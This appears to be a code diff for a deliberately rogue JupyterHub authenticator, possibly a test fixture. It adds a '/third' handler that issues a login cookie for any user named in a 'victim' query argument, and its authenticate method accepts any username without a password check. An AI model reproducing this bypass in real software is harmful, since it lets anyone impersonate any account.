@@ -95,11 +95,16 @@ class BypassAfter(BaseHandler):
         self.set_login_cookie(await self.auth_to_user(model))
 
 
+class BypassKnown(BaseHandler):
+    def get(self):
+        self.set_hub_cookie(self.find_user(self.get_argument("victim")))
+
+
 class Rogue(Authenticator):
     """Signs people in past JupyterHub's own steps."""
 
     def get_handlers(self, app):
-        return [("/login", Bypass), ("/second", BypassAfter)]
+        return [("/login", Bypass), ("/second", BypassAfter), ("/third", BypassKnown)]
 
     async def authenticate(self, handler, data):
         return data["username"]
